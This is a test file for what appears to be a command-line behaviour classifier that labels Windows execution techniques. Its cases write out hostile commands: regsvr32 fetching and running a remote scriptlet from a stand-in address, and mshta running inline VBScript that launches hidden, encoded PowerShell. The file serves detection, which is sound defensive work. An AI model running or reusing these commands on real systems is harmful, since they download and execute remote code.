import { describe, expect, it } from "vitest";
import { builtinCatalog } from "../catalog/load.ts";
import { resolve } from "../invocations/resolve.ts";
import { judge } from "./judge.ts";

const judged = (commandLine: string) =>
  judge(resolve({ commandLine, platform: "windows", as: "typed" }, builtinCatalog()))?.behaviour.id;

describe("judge", () => {
  it.each([
    [
      "what runs within a wrapper",
      "cmd /c regsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll",
      "windows/regsvr32/scriptlet",
    ],
    [
      "a host of scripts without ordinary use whose script runs something milder",
      `mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc RwBlAHQALQBEAGEAdABlAA=="", 0:close")`,
      "windows/mshta/inline-vbscript",
    ],
    [
      "what is grave by itself within such a host",
      `mshta vbscript:CreateObject("Wscript.Shell").Run("regsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll",0,true)(window.close)`,
      "windows/regsvr32/scriptlet",
    ],
  ])("tells of %s", (_, line, behaviour) => {
    expect(judged(line)).toBe(behaviour);
  });
});
